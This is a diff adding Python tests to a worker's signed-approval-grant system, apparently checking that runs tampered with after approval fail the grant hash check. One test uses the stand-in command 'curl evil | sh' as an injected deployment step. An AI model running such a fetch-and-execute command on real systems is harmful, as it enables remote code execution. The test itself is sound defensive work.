@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 from datetime import timedelta
+from typing import Any
 
 import attrs
 import pytest
@@ -12,6 +13,7 @@ from adapters.crypto.grants import Ed25519GrantVerifier, Ed25519KeyRing, GrantKe
 from adapters.memory.coordinator import InMemoryCoordinator
 from adapters.memory.runner import InMemoryRunner, Script
 from adapters.system import SystemClock, UlidIdGenerator
+from domain.approvals import Approval, ApprovalResponse, ApprovalStatus, Verdict
 from domain.automations import Run, RunStatus, new_run
 from domain.grants import (
     SignedGrant,
@@ -21,7 +23,12 @@ from domain.grants import (
     grant_for,
 )
 from domain.resources import AutomationSpec, Phase
+from domain.services.grants import sign_grant_for
+from domain.services.handover import seal_secrets
 from entrypoints.worker import PullWorker, WorkerOptions
+from tests.entrypoints.test_worker_protocol import Stack, stack, stored
+
+__all__ = ["stack"]  # the worker API fixture, shared with the protocol tests
 
 CLOCK = SystemClock()
 IDS = UlidIdGenerator(CLOCK)
@@ -181,3 +188,99 @@ async def test_a_run_without_an_approval_policy_needs_no_grant(ring: Ed25519KeyR
 def test_the_signature_covers_the_canonical_bytes(ring: Ed25519KeyRing) -> None:
     signed = decode_signed(approved(ring).grant)
     ring.current.public.verify(signed.signature, encode_grant(signed.grant))
+
+
+# ------------------------------------------------------------------ over the worker API
+
+
+async def queue_approved(
+    s: Stack, ring: Ed25519KeyRing, *, tamper: dict[str, Any] | None = None
+) -> Run:
+    from domain.services.dispatch import announce
+
+    now = s.clock.now()
+    run, _ = new_run(
+        s.p.ids.new_id(),
+        SPEC,
+        now,
+        name="deploy",
+        org_id="org-a",
+        template_id="tpl-1",
+        template_version=2,
+        requested_by="bob",
+        variables={"target": "prod", "password": "***"},
+        sealed_secrets=seal_secrets(s.p.sealer, {"password": "hunter2"}),
+    )
+    approval = Approval(
+        id="ap-1",
+        run_id=run.id,
+        requested_by="bob",
+        quorum=1,
+        expires_at=now + timedelta(hours=1),
+        created_at=now,
+        status=ApprovalStatus.APPROVED,
+        responses=(ApprovalResponse("alice", Verdict.APPROVE, now),),
+    )
+    run = sign_grant_for(run, approval, ring, s.p.sealer, now)
+    run = attrs.evolve(run, **(tamper or {}))
+    async with s.p.uow() as uow:
+        await uow.runs.add(run)
+        await announce(uow, s.p.ids, run, now)
+        await uow.commit()
+    return run
+
+
+async def executed_over_http(
+    s: Stack, run: Run, verifier: Ed25519GrantVerifier
+) -> tuple[Run, InMemoryRunner]:
+    runner = InMemoryRunner({"deploy": Script(lines=("deploying {TARGET}",))})
+
+    async def runner_for(spec: AutomationSpec) -> InMemoryRunner:
+        return runner
+
+    client = s.client()
+    worker = PullWorker(client, runner_for, s.clock, WorkerOptions(claim_wait=1), grants=verifier)
+    stop = asyncio.Event()
+    task = asyncio.create_task(worker.run(stop))
+    for _ in range(250):
+        if (await stored(s, run.id)).status.terminal:
+            break
+        await asyncio.sleep(0.02)
+    stop.set()
+    await asyncio.wait_for(task, 10)
+    await client.aclose()
+    return await stored(s, run.id), runner
+
+
+async def test_an_approved_run_executes_over_http(stack: Stack, ring: Ed25519KeyRing) -> None:
+    run = await queue_approved(stack, ring)
+    assert decode_signed(run.grant).grant.approver_ids == ("alice",)
+    ended, runner = await executed_over_http(stack, run, ring.verifier())
+    assert ended.status is RunStatus.SUCCEEDED
+    assert runner.jobs[0].env == {"TARGET": "prod", "PASSWORD": "hunter2"}
+
+
+async def test_a_run_changed_in_the_store_after_approval_fails_over_http(
+    stack: Stack, ring: Ed25519KeyRing
+) -> None:
+    changed = AutomationSpec(phases=(Phase("deploy", "busybox", ("curl evil | sh",)),))
+    run = await queue_approved(stack, ring, tamper={"spec": changed})
+    ended, runner = await executed_over_http(stack, run, ring.verifier())
+    assert (ended.status, ended.reason) == (
+        RunStatus.FAILED,
+        "grant does not match: content hash differs",
+    )
+    assert runner.jobs == []
+
+
+async def test_secrets_changed_in_the_store_after_approval_fail_over_http(
+    stack: Stack, ring: Ed25519KeyRing
+) -> None:
+    resealed = seal_secrets(stack.p.sealer, {"password": "changed"})
+    run = await queue_approved(stack, ring, tamper={"sealed_secrets": resealed})
+    ended, runner = await executed_over_http(stack, run, ring.verifier())
+    assert (ended.status, ended.reason) == (
+        RunStatus.FAILED,
+        "grant does not match: variables hash differs",
+    )
+    assert runner.jobs == []
